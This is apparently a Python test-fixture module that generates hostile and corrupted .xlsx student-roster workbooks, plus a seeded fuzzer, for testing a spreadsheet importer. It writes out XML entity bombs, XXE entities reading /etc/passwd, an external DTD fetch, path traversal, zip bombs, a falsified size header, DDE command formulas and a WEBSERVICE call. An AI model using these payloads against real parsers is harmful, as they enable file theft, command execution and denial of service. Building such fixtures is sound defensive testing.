"""Workbooks made to hurt, and real ones damaged at random: what the tests and benchmarks read.

`made` are made by hand, one for each way we know; `mutated` are a roster's parts changed by a
seeded generator. Nothing here opens what it makes.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
SHEET = "xl/worksheets/sheet1.xml"
HEADER = ("学生编号", "班级", "年级", "是否需要服务", "申请日期")


def roster(count: int = 30) -> dict[str, bytes]:
    """The parts of a plain roster."""
    strings = [*HEADER, "三（2）班", "是"]
    rows = ['<row r="1">' + _cells(1, [f"s{i}" for i in range(5)]) + "</row>"]
    for i in range(count):
        values = [f"t{i:03d}", "s5", "3", "s6", str(44438 + i % 5)]
        rows.append(f'<row r="{i + 2}">{_cells(i + 2, values)}</row>')
    return parts("".join(rows), strings)


def _cells(row: int, values: list[str]) -> str:
    found = []
    for i, value in enumerate(values):
        at = f"{chr(65 + i)}{row}"
        if value.startswith("s"):
            found.append(f'<c r="{at}" t="s"><v>{value[1:]}</v></c>')
        elif value.startswith("t"):
            found.append(f'<c r="{at}" t="inlineStr"><is><t>{value[1:]}</t></is></c>')
        else:
            style = 1 if i == 4 else 0
            found.append(f'<c r="{at}" s="{style}"><v>{value}</v></c>')
    return "".join(found)


def parts(rows: str, strings: list[str], after: str = "", before: str = "") -> dict[str, bytes]:
    """All parts of a workbook with one sheet."""
    texts = "".join(f"<si><t>{text}</t></si>" for text in strings)
    found = {
        "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="xml" '
        'ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
        f'Type="{_RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{_RELATIONS}"><sheets>'
        '<sheet name="名册" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}">'
        f'<Relationship Id="r1" Type="{_RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{_RELATIONS}/sharedStrings" Target="sharedStrings.xml"/>'
        f'<Relationship Id="r3" Type="{_RELATIONS}/styles" Target="styles.xml"/></Relationships>',
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{texts}</sst>',
        "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/>'
        '<xf numFmtId="14"/></cellXfs></styleSheet>',
        SHEET: f'<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData>{after}'
        "</worksheet>",
    }
    return {name: text.encode() for name, text in found.items()}


def packed(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED, twice: str = "") -> bytes:
    """The parts as a zip file; one of them may be written twice."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as out:
        for name, data in files.items():
            out.writestr(zipfile.ZipInfo(name), data, method)
    data = stream.getvalue()
    if twice:
        data = data.replace(b"xl/styles2xml", b"xl/styles.xml")
    return data


def _with(name: str, change: Callable[[bytes], bytes]) -> bytes:
    files = roster()
    files[name] = change(files[name])
    return packed(files)


def _sheet(rows: str, after: str = "", before: str = "", strings: list[str] | None = None) -> bytes:
    return packed(parts(rows, strings or list(HEADER), after, before))


def _cell(body: str) -> bytes:
    head = '<row r="1">' + _cells(1, [f"s{i}" for i in range(5)]) + "</row>"
    return _sheet(head + f'<row r="2"><c r="A2" t="inlineStr"><is><t>1</t></is></c>{body}</row>')


def _stream(name: str, pieces: Iterator[bytes], base: dict[str, bytes] | None = None) -> bytes:
    """A workbook with one huge part, compressed while it is made."""
    files = base or roster(3)
    files.pop(name, None)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as out:
        for other, data in files.items():
            out.writestr(other, data)
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with out.open(info, "w", force_zip64=True) as part:
            for piece in pieces:
                part.write(piece)
    return stream.getvalue()


def _zeros(size: int) -> Iterator[bytes]:
    for _ in range(size >> 20):
        yield bytes(1 << 20)


def _open_sheet(rows: Iterator[str]) -> Iterator[bytes]:
    yield f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    buffer: list[str] = []
    for row in rows:
        buffer.append(row)
        if len(buffer) > 2000:
            yield "".join(buffer).encode()
            buffer.clear()
    yield "".join(buffer).encode() + b"</sheetData></worksheet>"


def formatted_rows(cells: str = "ABCDE") -> bytes:
    """A roster of three, and formatted rows down to the last one of the sheet."""

    def rows() -> Iterator[str]:
        head = [f"t{name}" for name in HEADER]
        yield f'<row r="1">{_cells(1, head)}</row>'
        for i in range(2, 5):
            yield f'<row r="{i}">{_cells(i, [f"tS{i}", "t三（2）班", "3", "t是", "44438"])}</row>'
        for i in range(5, 1_048_577):
            inner = "".join(f'<c r="{letter}{i}" s="1"/>' for letter in cells)
            yield f'<row r="{i}" spans="1:5" s="1" customFormat="1">{inner}</row>'

    return _stream(SHEET, _open_sheet(rows()))


def full_rows(count: int) -> bytes:
    """A sheet that is full to the last row."""
    rows = (f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, count + 1))
    return _stream(SHEET, _open_sheet(rows))


def _central_bomb() -> bytes:
    """Sixty thousand parts of nothing."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as out:
        for i in range(20_000):
            out.writestr(f"{i}", b"")
    return stream.getvalue()


def _lying_size() -> bytes:
    """A part whose header says it unpacks to a few bytes, and which does not."""
    files = roster(3)
    files[SHEET] = files[SHEET].replace(b"</sheetData>", b" " * 3_000_000 + b"</sheetData>")
    data = bytearray(packed(files))
    size = struct.pack("<I", len(files[SHEET]))
    at = data.find(size)
    while at >= 0:
        data[at : at + 4] = struct.pack("<I", 100)
        at = data.find(size, at + 4)
    return bytes(data)


def encrypted() -> bytes:
    """What Excel writes for a workbook with a password: a compound file with two streams."""
    entry = "EncryptedPackage".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + entry + bytes(3000)


def _flagged(flag: int) -> bytes:
    data = bytearray(packed(roster(3)))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= flag
            at = data.find(mark, at + 4)
    return bytes(data)


_BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + "]>"
)
_OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_FETCH = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'


def _before(text: str) -> Callable[[bytes], bytes]:
    return lambda data: text.encode() + data


def _replace(old: str, new: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        assert old.encode() in data
        return data.replace(old.encode(), new.encode())

    return change


def _merged(merges: bytes) -> bytes:
    after = b"</sheetData><mergeCells>" + merges + b"</mergeCells>"
    return packed({**roster(), SHEET: roster()[SHEET].replace(b"</sheetData>", after)})


def _noise() -> str:
    return random.Random(2).randbytes(4_500_000).hex()


def _nested(depth: int) -> bytes:
    inner = "<x>" * depth + "</x>" * depth
    return _sheet(f'<row r="1"><c r="A1"><v>1</v>{inner}</c></row>')


#: Name of the file, how it is made, what is said of it ("" where it is read).
made: list[tuple[str, Callable[[], bytes], str]] = [
    ("plain.xlsx", lambda: packed(roster()), ""),
    ("stored.xlsx", lambda: packed(roster(), zipfile.ZIP_STORED), ""),
    ("bzip2.xlsx", lambda: packed(roster(), zipfile.ZIP_BZIP2), "压缩方法"),
    ("lzma.xlsx", lambda: packed(roster(), zipfile.ZIP_LZMA), "压缩方法"),
    ("empty.xlsx", lambda: b"", "文件是空的"),
    ("encrypted.xlsx", encrypted, "加了密码"),
    ("encrypted-parts.xlsx", lambda: _flagged(1), "加了密码"),
    ("old.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), "旧版 Excel"),
    ("page.xlsx", lambda: "<html><table><tr><td>学号".encode(), "网页"),
    ("text.xlsx", lambda: "学号,班级\n1,2\n".encode(), "文本或 .csv"),
    ("picture.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "PNG"),
    ("noise.xlsx", lambda: random.Random(1).randbytes(5000), "不是 .xlsx"),
    ("zip-head.xlsx", lambda: b"PK\x03\x04" + bytes(5000), "不完整"),
    ("half.xlsx", lambda: packed(roster())[:1500], "不完整"),
    ("word.xlsx", lambda: packed({"word/document.xml": b"<x/>"}), "Word"),
    ("slides.xlsx", lambda: packed({"ppt/presentation.xml": b"<x/>"}), "PowerPoint"),
    ("open-document.xlsx", lambda: packed({"content.xml": b"<x/>"}), "OpenDocument"),
    ("any-zip.xlsx", lambda: packed({"a.txt": b"a"}), "zip 压缩包"),
    ("binary.xlsx", lambda: _with("_rels/.rels", _replace("workbook.xml", "workbook.bin")), "xlsb"),
    ("many-parts.xlsx", _central_bomb, "个以上的部分"),
    ("bomb-sheet.xlsx", lambda: _stream(SHEET, _zeros(1 << 26)), "解压后过大"),
    ("bomb-strings.xlsx", lambda: _stream("xl/sharedStrings.xml", _zeros(1 << 26)), "解压后过大"),
    ("bomb-styles.xlsx", lambda: _stream("xl/styles.xml", _zeros(1 << 26)), "解压后过大"),
    ("bomb-unread.xlsx", lambda: _stream("xl/media/image1.png", _zeros(1 << 26)), ""),
    ("lying-size.xlsx", _lying_size, "解不开"),
    ("formatted-rows.xlsx", lambda: formatted_rows("A"), ""),
    ("full-rows.xlsx", lambda: full_rows(250_000), "超过 200000 行"),
    ("laughs.xlsx", lambda: _with(SHEET, _before(_BOMB)), "DTD"),
    ("laughs-strings.xlsx", lambda: _with("xl/sharedStrings.xml", _before(_BOMB)), "DTD"),
    ("laughs-workbook.xlsx", lambda: _with("xl/workbook.xml", _before(_BOMB)), "DTD"),
    ("laughs-rels.xlsx", lambda: _with("xl/_rels/workbook.xml.rels", _before(_BOMB)), "DTD"),
    ("laughs-styles.xlsx", lambda: _with("xl/styles.xml", _before(_BOMB)), "DTD"),
    ("entity-file.xlsx", lambda: _with(SHEET, _before(_OUTSIDE)), "DTD"),
    ("entity-net.xlsx", lambda: _with("xl/sharedStrings.xml", _before(_FETCH)), "DTD"),
    (
        "utf-16-laughs.xlsx",
        lambda: _with(SHEET, lambda d: (_BOMB + d.decode()).encode("utf-16")),
        "DTD",
    ),
    ("utf-16.xlsx", lambda: _with(SHEET, lambda d: d.decode().encode("utf-16")), ""),
    (
        "bad-encoding.xlsx",
        lambda: _with(SHEET, _before('<?xml version="1.0" encoding="x-evil"?>')),
        "编码",
    ),
    (
        "not-utf8.xlsx",
        lambda: _with("xl/sharedStrings.xml", lambda d: d.replace("班".encode(), b"\xff")),
        "不是完整的 XML",
    ),
    (
        "undefined-entity.xlsx",
        lambda: _with(SHEET, _replace("<v>3</v>", "<v>&evil;</v>")),
        "不是完整的 XML",
    ),
    ("deep.xlsx", lambda: _nested(100_000), "嵌套超过"),
    ("deep-rows.xlsx", lambda: _sheet("<row r='1'>" * 100_000), "嵌套超过"),
    ("long-tag.xlsx", lambda: _sheet(f'<row r="1"><c r="{_noise()}"/></row>'), "过长"),
    (
        "long-text.xlsx",
        lambda: _cell(f'<c r="B2" t="str"><v>{"文" * 200_000}</v></c>'),
        "超过 100000 个字",
    ),
    (
        "long-inline.xlsx",
        lambda: _cell(f'<c r="B2" t="inlineStr"><is><t>{"文" * 200_000}</t></is></c>'),
        "个字",
    ),
    (
        "many-runs.xlsx",
        lambda: _cell('<c r="B2" t="inlineStr"><is>' + "<r><t>x</t></r>" * 300_000 + "</is></c>"),
        "个字",
    ),
    (
        "spaces.xlsx",
        lambda: _stream(SHEET, _open_sheet(" " * 4000 for _ in range(20_000))),
        "解压后过大",
    ),
    ("many-strings.xlsx", lambda: _sheet("", strings=[str(i) for i in range(600_000)]), "文字超过"),
    (
        "many-characters.xlsx",
        lambda: _sheet("", strings=["文" * 20_000] * 1100),
        "解压后过大|文字超过",
    ),
    (
        "many-sheets.xlsx",
        lambda: _with(
            "xl/workbook.xml",
            _replace("</sheets>", '<sheet name="x" sheetId="2" r:id="r1"/>' * 1000 + "</sheets>"),
        ),
        "超过 255 张",
    ),
    (
        "same-sheet-twice.xlsx",
        lambda: _with(
            "xl/workbook.xml",
            _replace(
                '<sheet name="名册" sheetId="1"',
                '<sheet name="一" sheetId="2" r:id="r1"/><sheet name="二" sheetId="1"',
            ),
        ),
        "都像",
    ),
    (
        "no-sheet.xlsx",
        lambda: _with("xl/workbook.xml", lambda d: re.sub(b"<sheet n.*?/>", b"", d)),
        "没有工作表",
    ),
    (
        "sheet-elsewhere.xlsx",
        lambda: _with(
            "xl/_rels/workbook.xml.rels",
            _replace(
                'Target="worksheets/sheet1.xml"',
                'Target="http://192.0.2.1/s.xml" TargetMode="External"',
            ),
        ),
        "找不到工作表",
    ),
    (
        "path-out.xlsx",
        lambda: _with(
            "xl/_rels/workbook.xml.rels",
            _replace("worksheets/sheet1.xml", "../../../../etc/passwd"),
        ),
        "缺少",
    ),
    (
        "cyclic-rels.xlsx",
        lambda: _with(
            "xl/_rels/workbook.xml.rels", _replace("worksheets/sheet1.xml", "workbook.xml")
        ),
        "没有内容",
    ),
    (
        "strings-elsewhere.xlsx",
        lambda: _with("xl/_rels/workbook.xml.rels", _replace('"sharedStrings.xml"', '"gone.xml"')),
        "不在文字表里",
    ),
    ("bad-index.xlsx", lambda: _cell('<c r="B2" t="s"><v>99999999999</v></c>'), "不在文字表里"),
    ("negative-index.xlsx", lambda: _cell('<c r="B2" t="s"><v>-1</v></c>'), "不在文字表里"),
    ("bad-type.xlsx", lambda: _cell('<c r="B2" t="evil"><v>1</v></c>'), "单元格类型"),
    ("bad-place.xlsx", lambda: _cell('<c r="ZZZZ2"><v>1</v></c>'), "位置"),
    ("wrong-row.xlsx", lambda: _cell('<c r="B7"><v>1</v></c>'), "位置"),
    ("far-column.xlsx", lambda: _cell('<c r="XFE2"><v>1</v></c>'), "不按顺序"),
    ("twice-cell.xlsx", lambda: _cell('<c r="B2"><v>1</v></c><c r="B2"><v>2</v></c>'), "不按顺序"),
    ("two-values.xlsx", lambda: _cell('<c r="B2"><v>1</v><v>2</v></c>'), "两个值"),
    (
        "backwards.xlsx",
        lambda: _sheet(
            '<row r="5"/><row r="5"><c r="A5"><v>1</v></c></row>'
            '<row r="4"><c r="A4"><v>1</v></c></row>'
        ),
        "行号",
    ),
    ("row-0.xlsx", lambda: _sheet('<row r="0"><c r="A0"><v>1</v></c></row>'), "行号"),
    (
        "row-huge.xlsx",
        lambda: _sheet('<row r="99999999999999"><c r="A1"><v>1</v></c></row>'),
        "行号",
    ),
    ("row-text.xlsx", lambda: _sheet('<row r="x"><c r="A1"><v>1</v></c></row>'), "行号"),
    (
        "many-columns.xlsx",
        lambda: _sheet('<row r="1">' + "".join("<c><v>1</v></c>" for _ in range(600)) + "</row>"),
        "超过 500 列",
    ),
    (
        "dimension.xlsx",
        lambda: packed(
            {
                **roster(),
                SHEET: roster()[SHEET].replace(
                    b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
                ),
            }
        ),
        "",
    ),
    (
        "bad-dimension.xlsx",
        lambda: packed(
            {
                **roster(),
                SHEET: roster()[SHEET].replace(
                    b"<sheetData>", b'<dimension ref="evil"/><sheetData>'
                ),
            }
        ),
        "",
    ),
    ("whole-merge.xlsx", lambda: _merged(b'<mergeCell ref="A1:XFD1048576"/>'), ""),
    ("bad-merge.xlsx", lambda: _merged(b'<mergeCell ref="C3:A1"/>'), "合并区域"),
    (
        "many-merges.xlsx",
        lambda: _merged(
            b"".join(b'<mergeCell ref="A%d:B%d"/>' % (i, i) for i in range(100, 30_100))
        ),
        "合并的单元格超过",
    ),
    (
        "overlapping-merges.xlsx",
        lambda: _merged(
            b"".join(b'<mergeCell ref="A%d:E%d"/>' % (i, 1_048_000) for i in range(2, 9000))
        ),
        "",
    ),
    ("macros.xlsm", lambda: packed({**roster(), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0evil"}), ""),
    (
        "external-links.xlsx",
        lambda: packed({**roster(), "xl/externalLinks/externalLink1.xml": _OUTSIDE.encode()}),
        "",
    ),
    ("connections.xlsx", lambda: packed({**roster(), "xl/connections.xml": _BOMB.encode()}), ""),
    ("embedded.xlsx", lambda: packed({**roster(), "xl/embeddings/oleObject1.bin": bytes(100)}), ""),
    ("dde.xlsx", lambda: _cell('<c r="B2" t="str"><f>cmd|\'/C calc\'!A0</f><v>1班</v></c>'), ""),
    ("dde-only.xlsx", lambda: _cell("<c r=\"B2\"><f>cmd|'/C calc'!A0</f></c>"), ""),
    ("web-service.xlsx", lambda: _cell('<c r="B2"><f>WEBSERVICE("http://192.0.2.1/")</f></c>'), ""),
    ("nan.xlsx", lambda: _cell('<c r="C2"><v>NaN</v></c>'), ""),
    ("infinite.xlsx", lambda: _cell('<c r="C2"><v>1e999</v></c>'), ""),
    ("digits.xlsx", lambda: _cell(f'<c r="C2"><v>{"9" * 90_000}</v></c>'), ""),
    ("exponent.xlsx", lambda: _cell('<c r="C2"><v>1e308</v></c>'), ""),
    ("tiny.xlsx", lambda: _cell('<c r="C2"><v>1e-307</v></c>'), ""),
    ("negative-date.xlsx", lambda: _cell('<c r="E2" s="1"><v>-44438</v></c>'), ""),
    ("far-date.xlsx", lambda: _cell('<c r="E2" s="1"><v>99999999</v></c>'), ""),
    ("leap-1900.xlsx", lambda: _cell('<c r="E2" s="1"><v>60</v></c>'), ""),
    ("bad-iso.xlsx", lambda: _cell('<c r="E2" t="d"><v>2021-99-99</v></c>'), ""),
    (
        "mac-1904.xlsx",
        lambda: _with(
            "xl/workbook.xml", _replace("<sheets>", '<workbookPr date1904="1"/><sheets>')
        ),
        "",
    ),
    (
        "controls.xlsx",
        lambda: _cell('<c r="B2" t="str"><v>_x001B_[2J_x0007__x0000__xD800_</v></c>'),
        "",
    ),
    ("bad-style.xlsx", lambda: _cell('<c r="E2" s="99999"><v>44438</v></c>'), ""),
    ("text-style.xlsx", lambda: _cell('<c r="E2" s="evil"><v>44438</v></c>'), ""),
    (
        "long-format.xlsx",
        lambda: _with(
            "xl/styles.xml",
            _replace(
                "<cellXfs>",
                f'<numFmts><numFmt numFmtId="14" formatCode="{"y" * 100_000}"/></numFmts><cellXfs>',
            ),
        ),
        "",
    ),
    (
        "many-styles.xlsx",
        lambda: _with(
            "xl/styles.xml", _replace("</cellXfs>", '<xf numFmtId="0"/>' * 80_000 + "</cellXfs>")
        ),
        "格式超过",
    ),
    ("comments.xlsx", lambda: _with(SHEET, _replace("<v>3</v>", "<v><!-- <v>9</v> -->3</v>")), ""),
    ("wrong-content-types.xlsx", lambda: _with("[Content_Types].xml", lambda d: b"<x/>"), ""),
    (
        "no-content-types.xlsx",
        lambda: packed({k: v for k, v in roster().items() if k != "[Content_Types].xml"}),
        "",
    ),
    (
        "no-styles.xlsx",
        lambda: packed({k: v for k, v in roster().items() if "styles" not in k}),
        "",
    ),
    (
        "two-of-one.xlsx",
        lambda: packed({**roster(), "xl/styles2xml": b"<x/>"}, twice="xl/styles.xml"),
        "有两个",
    ),
    (
        "only-hidden.xlsx",
        lambda: _with("xl/workbook.xml", _replace('sheetId="1"', 'sheetId="1" state="veryHidden"')),
        "隐藏",
    ),
    ("nothing.xlsx", lambda: _sheet(""), "没有内容"),
    ("no-headings.xlsx", lambda: _sheet('<row r="1"><c r="A1"><v>1</v></c></row>'), "找不到"),
    ("appended.xlsx", lambda: packed(roster()) + b"\0" * 30_000, ""),
    ("prefixed.xlsx", lambda: b"\0" * 100 + packed(roster()), "不是 .xlsx"),
]


def mutated(seed: int) -> bytes:
    """A roster with one to three random changes to its bytes, its parts or its XML."""
    rng = random.Random(seed)
    files = roster(rng.randint(1, 40))
    gentle = rng.random() < 0.5
    for _ in range(1 if gentle else rng.randint(1, 3)):
        name = SHEET if gentle else rng.choice([SHEET, SHEET, *files])
        changes = [_swap_numbers, _swap_values, _swap_values] if gentle else CHANGES
        files[name] = rng.choice(changes)(rng, files[name])
    method = rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
    data = packed(files, method)
    if not gentle and rng.random() < 0.4:
        data = rng.choice(BYTES)(rng, data)
    return data


def _cut(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data) + 1)]


def _flip(rng: random.Random, data: bytes) -> bytes:
    changed = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        if changed:
            changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


def _double(rng: random.Random, data: bytes) -> bytes:
    start = rng.randrange(len(data) + 1)
    stop = min(len(data), start + rng.randint(1, 400))
    return data[:stop] + data[start:stop] * rng.randint(1, 5) + data[stop:]


def _swap_numbers(rng: random.Random, data: bytes) -> bytes:
    odd = [b"-1", b"0", b"99999999999999999999", b"1e999", b"NaN", b"", b"1.5", b"A"]
    found = list(re.finditer(rb"\d+", data))
    for match in sorted(rng.sample(found, min(len(found), 3)), key=lambda m: -m.start()):
        data = data[: match.start()] + rng.choice(odd) + data[match.end() :]
    return data


def _swap_values(rng: random.Random, data: bytes) -> bytes:
    odd = [
        b"NaN",
        b"1e999",
        b"-44438",
        b"",
        b" ",
        b"4.5E+01",
        b"0.77083333333333304",
        b"_x0007_",
        b"1&#13;2",
        b"99999999999999999999999",
        b"0",
        b"\xe2\x80\xae",
    ]
    found = list(re.finditer(rb"(?<=<v>)\d\d[^<]*|(?<=<t>)[^<]*", data))
    for match in sorted(rng.sample(found, min(len(found), 4)), key=lambda m: -m.start()):
        data = data[: match.start()] + rng.choice(odd) + data[match.end() :]
    return data


def _swap_tags(rng: random.Random, data: bytes) -> bytes:
    tags = list(re.finditer(rb"<[^<>]*>", data))
    if len(tags) < 2:
        return data
    a, b = sorted(rng.sample(tags, 2), key=lambda m: m.start())
    return data[: a.start()] + b[0] + data[a.end() : b.start()] + a[0] + data[b.end() :]


def _drop_tags(rng: random.Random, data: bytes) -> bytes:
    tags = list(re.finditer(rb"<[^<>]*>", data))
    for match in sorted(rng.sample(tags, min(len(tags), 2)), key=lambda m: -m.start()):
        data = data[: match.start()] + data[match.end() :]
    return data


def _insert(rng: random.Random, data: bytes) -> bytes:
    odd = [
        _BOMB,
        _OUTSIDE,
        "<![CDATA[<row>]]>",
        "<!-- x -->",
        "<?evil ?>",
        "\x00",
        "&#0;",
        "&#x1b;",
        "<c/>",
        "<row/>",
        "</row>",
        "<v>1</v>",
        '<mergeCell ref="A1"/>',
        "\u202e",
        "_x0000_",
    ]
    at = rng.choice([m.end() for m in re.finditer(rb">", data)] or [0])
    return data[:at] + rng.choice(odd).encode() + data[at:]


def _empty(rng: random.Random, data: bytes) -> bytes:
    return b""


#: What may befall a part of a workbook, or any other text: each takes a generator and bytes.
CHANGES = [_cut, _flip, _double, _swap_numbers, _swap_tags, _drop_tags, _insert, _empty]
#: What may befall any file.
BYTES = [_cut, _flip, _double]


def checksum(data: bytes) -> int:
    """To tell that the generator makes the same files everywhere."""
    return zlib.crc32(data)
